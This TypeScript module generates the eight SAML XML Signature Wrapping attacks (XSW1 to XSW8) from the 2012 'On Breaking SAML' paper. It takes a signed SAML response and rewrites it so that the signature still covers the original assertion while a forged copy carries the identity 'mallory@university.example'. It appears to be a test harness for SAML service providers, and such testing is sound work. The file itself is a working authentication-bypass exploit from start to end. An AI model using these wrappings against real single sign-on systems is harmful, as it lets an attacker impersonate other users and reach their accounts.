import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

const dsig = 'http://www.w3.org/2000/09/xmldsig#'
const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol'
const saml = 'urn:oasis:names:tc:SAML:2.0:assertion'

const one = (elements: { item(index: number): Element | null; length: number }, index = 0): Element => {
  const found = elements.item(index)
  if (found === null) throw new Error('the message to attack lacks an element')
  return found
}
const signatureOf = (element: Element): Element => one(element.getElementsByTagNameNS(dsig, 'Signature'))

const clone = (element: Element): Element => element.cloneNode(true) as Element

/** Gives a copy another id and another person. */
function forge(element: Element): Element {
  element.setAttribute('ID', '_evil')
  for (const value of Array.from(element.getElementsByTagNameNS(saml, 'AttributeValue'))) {
    if (value.textContent?.includes('@')) value.textContent = 'mallory@university.example'
  }
  return element
}

const withoutSignature = (element: Element): Element => {
  const own = Array.from(element.childNodes).find((node) => node.nodeName.endsWith('Signature'))
  if (own) element.removeChild(own)
  return element
}

/**
 * The eight ways to wrap a signed element (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be", 2012):
 * the signature still covers the original, while a careless reader takes the forged copy.
 */
const attacks: Record<string, (response: Element) => Element> = {
  'XSW1: the original response inside the signature of a forged one': (response) => {
    const original = withoutSignature(clone(response))
    const forged = forge(response)
    signatureOf(forged).appendChild(original)
    return forged
  },
  'XSW2: the original response before the signature of a forged one': (response) => {
    const original = withoutSignature(clone(response))
    const forged = forge(response)
    const signature = signatureOf(forged)
    signature.parentNode?.insertBefore(original, signature)
    return forged
  },
  'XSW3: a forged assertion before the original': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    response.insertBefore(forge(withoutSignature(clone(original))), original)
    return response
  },
  'XSW4: the original assertion inside a forged one': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    const forged = forge(withoutSignature(clone(original)))
    response.replaceChild(forged, original)
    forged.appendChild(original)
    return response
  },
  'XSW5: a forged assertion with the signature, the original after it': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    const copy = withoutSignature(clone(original))
    forge(original)
    response.appendChild(copy)
    return response
  },
  'XSW6: the original assertion inside the signature of a forged one': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    const copy = withoutSignature(clone(original))
    forge(original)
    signatureOf(original).appendChild(copy)
    return response
  },
  'XSW7: a forged assertion in an extension': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    const extensions = response.ownerDocument.createElementNS(samlp, 'samlp:Extensions')
    const forged = forge(withoutSignature(clone(original)))
    forged.setAttribute('ID', original.getAttribute('ID') ?? '')
    extensions.appendChild(forged)
    response.insertBefore(extensions, original)
    return response
  },
  'XSW8: the original assertion in an object of the signature': (response) => {
    const original = one(response.getElementsByTagNameNS(saml, 'Assertion'))
    const copy = withoutSignature(clone(original))
    forge(original)
    const holder = response.ownerDocument.createElementNS(dsig, 'ds:Object')
    holder.appendChild(copy)
    signatureOf(original).appendChild(holder)
    return response
  },
}

export const wrappings = Object.keys(attacks)

/** @param xml a response whose assertion is signed and not encrypted */
export function wrap(name: string, xml: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const attack = attacks[name]
  if (attack === undefined) throw new Error(`no attack ${name}`)
  return new XMLSerializer().serializeToString(attack(document.documentElement))
}
